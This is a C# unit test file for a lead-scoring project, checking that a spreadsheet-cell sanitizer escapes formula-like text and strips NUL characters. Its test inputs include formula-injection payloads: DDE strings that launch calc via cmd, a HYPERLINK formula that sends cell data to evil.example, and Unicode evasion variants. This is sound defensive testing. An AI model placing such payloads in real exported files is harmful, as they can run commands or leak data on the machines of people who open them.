using LeadScoring.Functions.Http;

namespace LeadScoring.Tests.Http;

public sealed class SpreadsheetCellTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+49 30 1234567")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("=")]
    [InlineData(" =1+1")]
    [InlineData("   =1+1")]
    [InlineData("\t=1+1")]
    [InlineData(" \t =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\u3000=1+1")]
    [InlineData("\u200B=1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\tAcme")]
    [InlineData("\rAcme")]
    [InlineData("\nAcme")]
    [InlineData("\r\n=1+1")]
    [InlineData(" \nAcme")]
    [InlineData("\uFF1D1+1")]
    [InlineData("\uFF0B1")]
    [InlineData("\uFF0D1")]
    [InlineData("\uFF20SUM(1)")]
    [InlineData(" \uFF1D1+1")]
    public void Text_that_could_be_a_formula_gets_an_apostrophe(string text) => Assert.Equal("'" + text, SpreadsheetCell.Of(text));

    [Theory]
    [InlineData("\0=1+1", "'=1+1")]
    [InlineData("\0Acme", "'Acme")]
    [InlineData("=\0" + "1", "'=1")]
    [InlineData(" \0=1", "' =1")]
    [InlineData("Ac\0me", "Acme")]
    [InlineData("\0", "'")]
    public void A_NUL_character_is_removed(string text, string cell) => Assert.Equal(cell, SpreadsheetCell.Of(text));

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("Acme")]
    [InlineData(" Acme")]
    [InlineData("'=1+1")]
    [InlineData("1+1=2")]
    [InlineData("a=b")]
    [InlineData("ann@acme.example")]
    [InlineData("2026-03-01T12:00:00Z")]
    [InlineData("Pricing page (+8)")]
    [InlineData("\u00C9cole, \"Nord\"\nParis")]
    [InlineData("\uD83D\uDE80 Rockets")]
    public void Other_text_stays_as_it_is(string text) => Assert.Equal(text, SpreadsheetCell.Of(text));
}
